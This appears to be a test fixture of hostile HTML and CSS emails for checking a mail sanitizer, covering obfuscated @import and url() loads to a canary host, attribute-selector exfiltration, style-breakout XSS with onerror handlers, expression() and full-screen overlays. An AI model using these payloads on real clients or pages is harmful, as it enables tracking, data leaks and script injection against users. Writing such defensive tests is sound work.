// CSS that tries to load, to run, to read or to leave its frame, in every disguise that a decoder may fall for.

import { canary, type HostileMessage, html, js } from './build-message.ts'

const u = (name: string) => `${canary}/${name}`
const style = (name: string, css: string, attribute = '') =>
  html('e', `css-${name}`, `<style>${css}</style><div class=a id=a ${attribute}>styled<p>x</p></div>`)
const inline = (name: string, css: string) =>
  html('e', `css-inline-${name}`, `<div style="${css.replaceAll('"', '&quot;')}">styled</div>`)

export const cssMessages: readonly HostileMessage[] = [
  style(
    'import',
    `@import "${u('a')}";@import url(${u('b')});@IMPORT/**/url('${u('c')}') screen;@\\69mport "${u('d')}";@import url(data:text/css,*%7Bbackground:url(${u('e')})%7D);`,
  ),
  style(
    'import-after-comment',
    `<!-- @import "${u('a')}"; --> @charset "utf-7"; @import "${u('b')}" layer(x) supports(display:grid);`,
  ),
  style(
    'urls',
    `.a{background:url(${u('1')});background-image:url("${u('2')}");list-style:url('${u('3')}');cursor:url(${u('4')}),auto;border-image:url(${u('5')}) 1;content:url(${u('6')});mask:url(${u('7')});-webkit-mask-image:url(${u('8')});filter:url(${u('9')}#f);clip-path:url(${u('10')}#c);shape-outside:url(${u('11')});offset-path:url(${u('12')})}`,
  ),
  style(
    'pseudo',
    `.a::before{content:url(${u('before')})}.a::after{content:"x";background:url(${u('after')})}p::first-letter{background:url(${u('fl')})}.a::marker{content:url(${u('marker')})}`,
  ),
  style(
    'escapes',
    `.a{background:\\75\\72\\6c(${u('1')});background-image:u\\rl(${u('2')});b\\61 ckground:\\000075rl(${u('3')});background:url(\\68ttp://canary.example/4);background:url("htt\\p://canary.example/5");background:url(\\2f\\2f canary.example/6)}`,
  ),
  style(
    'double-escapes',
    `.a{content:"\\0026quot;; background:url(${u('1')})";background:"\\5c 75 rl(${u('2')})";content:"\\\\22;background:url(${u('3')})"}`,
  ),
  style(
    'comments',
    `.a{background:/*/*/url(${u('1')})/**/;/*}*/background:u/**/rl(${u('2')});color:red/*;*/;background/**/:/**/url(/**/${u('3')})}/*/ .a{background:url(${u('4')})} /*/.a{/*}.a{background:url(${u('5')})/*}`,
  ),
  style('missing-brace', `.a{color:red;.a{background:url(${u('1')})} @media screen{.a{background:url(${u('2')})`),
  style('unclosed-url', `.a{background:url("${u('1')}`),
  style('unclosed-string', `.a{font-family:"x;background:url(${u('1')})\n;background:url(${u('2')})}`),
  style(
    'var',
    `:root{--u:url(${u('1')});--s:"${u('2')}"}.a{background:var(--u);background:var(--x,url(${u('3')}));background:url(var(--s));list-style-image:env(x,url(${u('4')}))}`,
  ),
  style(
    'image-functions',
    `.a{background:image-set("${u('1')}" 1x);background:-webkit-image-set(url(${u('2')}) 1x);background:image("${u('3')}");background:cross-fade(url(${u('4')}),url(${u('5')}));background:-webkit-cross-fade(url(${u('6')}),url(${u('7')}),50%);background:element(#x);background:paint(x);background:src("${u('8')}")}`,
  ),
  style('font-face', `@font-face{font-family:x;src:url(${u('f.woff')}),local(x);unicode-range:U+41}.a{font-family:x}`),
  style(
    'other-at-rules',
    `@namespace url(${u('ns')});@document url(${u('d')}){.a{color:red}}@page{background:url(${u('page')})}@counter-style x{system:cyclic;symbols:url(${u('c')})}.a{list-style:x}@property --p{syntax:"<url>";inherits:true;initial-value:url(${u('p')})}@layer x{.a{background:url(${u('l')})}}@container (width>0){.a{background:url(${u('q')})}}@supports (display:grid){.a{background:url(${u('s')})}}@scope (.a){p{background:url(${u('sc')})}}@starting-style{.a{background:url(${u('st')})}}`,
  ),
  style(
    'nesting',
    `.a{color:red;& p{background:url(${u('1')})}p{background:url(${u('2')})}@media screen{background:url(${u('3')})}}`,
  ),
  style(
    'media',
    `@media screen and (min-width:1px){.a{background:url(${u('1')})}}@media screen{@media (width>0){.a{background:url(${u('2')})}}}`,
  ),
  style(
    'expression',
    `.a{width:expression(${js});behavior:url(${u('b.htc')});-moz-binding:url(${u('x.xml#x')});xss:ex/**/pression(${js});width:\\65xpression(${js});background:url(javascript:${js})}`,
  ),
  style('full-width-letters', `.a{width:ｅｘｐｒｅｓｓｉｏｎ(${js});background:ｕｒｌ(${u('1')})}`),
  style('page-colon-rejoin', `.a{page:x}</sty page:le><img src=x onerror=${js}>`),
  style('markup-in-string', `.a{content:"</style><img src=x onerror=${js}>"}`),
  style('markup-in-selector', `a[title="</style><img src=x onerror=${js}>"]{color:red}.\\3c\\2fstyle\\3e{color:red}`),
  style(
    'exfiltration',
    `p[class^=a]{background:url(${u('p-a')})}input[value^="a"]{background:url(${u('in')})}html:has(meta[content*="x"]){background:url(${u('has')})}.a:not(:hover){background:url(${u('not')})}a:visited{background:url(${u('v')})}`,
  ),
  style(
    'animation',
    `@keyframes k{from{background:url(${u('1')})}to{background:url(${u('2')})}}.a{animation:k 1s infinite;transition:all 1s}`,
    `onanimationstart=${js}`,
  ),
  style(
    'fixed',
    `.a{position:fixed!important;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red}p{position:sticky;inset:0}div{position:\\66ixed;pos\\69tion:fixed}`,
  ),
  style('hides-the-rest', `.x{color:red}*{transition:none}`),
  inline(
    'urls',
    `background:url(${u('1')});background-image:url("${u('2')}");list-style-image:url('${u('3')}');border-image-source:url(${u('4')});cursor:url(${u('5')}),auto`,
  ),
  inline(
    'data-breakout',
    `background:url(data:image/png,x);background:url(//canary.example/1);background:url('data:image/svg+xml,<svg onload=${js}>')`,
  ),
  inline(
    'protocol-relative',
    `background:url(//canary.example/1);background:url(\\/\\/canary.example/2);background:url(/\\/canary.example/3);background:url(https:canary.example/4)`,
  ),
  inline('own-origin', `background:url(/jmap/session);background:url(/auth/sign-out);background:url(x.png)`),
  inline(
    'decode-order',
    `background:u&#114;l(${u('1')});background:&#92;75rl(${u('2')});font-family:'&quot;;background:url(${u('3')})'`,
  ),
  inline('var-and-env', `--x:url(${u('1')});background:var(--x);background-image:var(--y,url(${u('2')}))`),
  inline('attr-function', `background:url(attr(title));background-image:attr(title url);content:attr(title)`),
  inline('fixed-with-comment', `position:/*x*/fixed/**/!important;top:0;left:0;width:100%;height:9999px;z-index:9`),
  inline('breakout', `x:expression(1)"><img src=x onerror=${js}>`),
  inline(
    'bom-and-nul',
    `background:\ufeffurl(${u('1')});background:u\u0000rl(${u('2')});back\u0000ground:url(${u('3')})`,
  ),
  html(
    'f',
    'css-body-attributes',
    `<body background="${u('bg')}" bgcolor="red;background:url(${u('bg2')})" style="background:url(${u('bg3')})" text="x" link="javascript:${js}">`,
  ),
  html(
    'f',
    'css-link-elements',
    [
      'stylesheet',
      'alternate stylesheet',
      'preload',
      'prefetch',
      'modulepreload',
      'dns-prefetch',
      'preconnect',
      'prerender',
      'icon',
      'manifest',
      'import',
      'expect',
      'compression-dictionary',
    ]
      .map((rel) => `<link rel="${rel}" href="${u(rel.replace(' ', '-'))}" as=image imagesrcset="${u('set')} 1x">`)
      .join(''),
  ),
  html(
    'e',
    'css-style-attributes',
    `<style media="x" onload=${js} src="${u('style')}">.a{}</style><style type="text/less">@import (js) "${u('less')}"</style>`,
  ),
]
